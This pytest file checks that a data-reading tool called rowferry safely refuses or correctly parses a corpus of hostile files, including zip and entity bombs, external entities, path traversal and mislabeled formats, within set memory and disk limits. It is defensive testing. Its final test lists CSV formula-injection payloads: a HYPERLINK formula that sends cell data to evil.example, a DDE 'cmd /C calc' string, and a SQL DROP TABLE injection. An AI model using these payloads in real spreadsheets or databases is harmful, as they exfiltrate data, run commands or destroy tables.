"""The hostile files of the corpus, all read by one process: refused with a code or read right, in flat memory."""

import json
import subprocess
import sys
from pathlib import Path
from typing import NamedTuple

import pytest

from rowferry.domain.faults import JobFaultCode

FOLDER = Path(__file__).parents[2] / "../shared/corpus/hostile"
MEMORY_MB_MAX = 400
SCRATCH_BYTES_MAX = 20_000_000
SEE = """
import json, sys
from pathlib import Path
from rowferry.domain.faults import JobStopped
from rowferry.domain.schema import ReadOptions
from rowferry.main import readers
from rowferry.pipeline.inspect import open_file
from rowferry.settings import Settings

def look(path, scratch):
    seen = {"rows": 0, "faults": [], "cells": []}
    try:
        for block in open_file(path, ReadOptions(), readers(Settings()), scratch).blocks():
            seen["rows"] += block.rows
            seen["faults"] += [[int(block.lines[fault.position]), fault.code] for fault in block.faults]
            seen["cells"] += block.cells.head(5).rows()
    except JobStopped as stopped:
        seen |= {"code": stopped.fault.code, "message": stopped.fault.message}
    seen["memory_mb"] = int(next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1]) // 1024
    seen["scratch_bytes"] = sum(one.stat().st_size for one in scratch.iterdir())
    return seen

corpus, folder = Path(sys.argv[1]), Path(sys.argv[2])
for name in sys.argv[3:]:
    scratch = folder / name
    scratch.mkdir()
    print(json.dumps([name, look(corpus / name, scratch)]), flush=True)
"""


class Expected(NamedTuple):
    """What a file may give: so many rows, or a refusal whose message has one of the words. None: no such outcome is right."""

    rows: int | None
    words: tuple[str, ...] | None
    faults: tuple[tuple[int, str], ...] = ()


DAMAGED = ("damaged", "cut", "broken")
EXPECTED = {
    "good.xlsx": Expected(199, None),
    "truncated.xlsx": Expected(None, DAMAGED),
    "truncated-tail.xlsx": Expected(None, DAMAGED),
    "bad-crc.xlsx": Expected(199, DAMAGED),
    "zip-bomb.xlsx": Expected(199, ("large", "more than", "limit")),
    "many-cells.xlsx": Expected(201, ("",), ((1_048_570, "extra-cell"), (1_048_576, "extra-cell"))),
    "entity-bomb.xlsx": Expected(None, ("",)),
    "external-entity.xlsx": Expected(None, ("",)),
    "path-traversal.xlsx": Expected(199, ("",)),
    "xlsx-named.csv": Expected(199, ("workbook",)),
    "csv-named.xlsx": Expected(2, ("text",)),
    "html-named.xls": Expected(None, ("HTML",)),
    "png-named.csv": Expected(None, ("no text",)),
    "bomb.csv.gz": Expected(None, ("500 times",)),
    "truncated.csv.gz": Expected(None, ("cut off",)),
    "empty.csv": Expected(None, ("empty",)),
    "header-only.csv": Expected(0, None),
    "only-bom.csv": Expected(None, ("empty",)),
    "many-columns.csv": Expected(1, ("20002 columns",)),
    "formula-injection.csv": Expected(5, None),
    "names.csv": Expected(5, None),
}


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict]:
    """What one process makes of all files, one after the other; that it lives to the end is the first thing that is asked of it."""
    if not FOLDER.exists():
        pytest.skip("the corpus is not here")
    folder = tmp_path_factory.mktemp("hostile")
    command = [sys.executable, "-c", SEE, str(FOLDER), str(folder), *EXPECTED]
    ended = subprocess.run(command, capture_output=True, text=True, timeout=150, check=False)
    found = dict(json.loads(line) for line in ended.stdout.splitlines())
    assert ended.returncode == 0, (ended.stderr, list(found))
    assert {path.name for path in folder.iterdir()} == set(EXPECTED)
    return found


@pytest.mark.usefixtures("seen")
def test_every_file_of_the_corpus_is_looked_at() -> None:
    assert set(EXPECTED) == set(json.loads((FOLDER / "expected.json").read_text()))


@pytest.mark.parametrize("name", list(EXPECTED))
def test_a_hostile_file_is_refused_with_a_code_or_read_right(name: str, seen: dict[str, dict]) -> None:
    found, expected = seen[name], EXPECTED[name]
    if "code" in found:
        assert expected.words is not None, found
        assert found["code"] in set(JobFaultCode) - {JobFaultCode.INTERNAL}
        assert any(word in found["message"] for word in expected.words), found["message"]
    else:
        assert (found["rows"], found["faults"]) == (expected.rows, [list(fault) for fault in expected.faults])
    assert found["memory_mb"] < MEMORY_MB_MAX
    assert found["scratch_bytes"] < SCRATCH_BYTES_MAX


def test_formulas_and_markup_are_texts_like_others(seen: dict[str, dict]) -> None:
    assert dict(seen["formula-injection.csv"]["cells"]) == {
        "1": '=HYPERLINK("http://evil.example/?"&A1)',
        "2": "+cmd|' /C calc'!A0",
        "3": "@SUM(1)",
        "4": "-2+3",
        "5": "\t=1",
    }
    assert dict(seen["names.csv"]["cells"])["2"] == "Robert'); DROP TABLE students;--"
